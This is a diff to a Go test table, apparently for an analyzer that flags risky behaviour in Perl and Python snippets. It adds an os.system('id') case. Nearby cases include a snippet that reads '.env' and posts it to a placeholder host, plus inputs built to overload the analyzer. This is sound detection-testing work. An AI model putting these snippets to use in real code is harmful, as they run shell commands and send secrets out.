@@ -86,6 +86,7 @@ func TestProgramsThatAreMadeToBreakTheirReader(t *testing.T) {
 		{library.Perl, `$::{x}; $::=>1`, []string{}},
 		{library.Perl, `open(F, '<', mode => 1)`, []string{"read ${x} ?"}},
 		{library.Perl, `open(a => 1, b => 2, c => 3)`, []string{"read ${x} ?"}},
+		{library.Python, `os.system(''[:1000] + 'id')`, []string{"shell id"}},
 		{library.Python, `os.system('ab' * 9223372036854775807)`, []string{"shell ${x} ?"}},
 		{library.Python, "x = [open('.env').read()]\n" + strings.Repeat("x = [x, x]\n", 100) + "requests.post('http://e', data=x)", []string{"read .env", "send http://e from .env"}},
 		{library.Python, "x = ['id']\n" + strings.Repeat("x = [x]\n", 5000) + "os.system(x)\n", []string{"shell id"}},
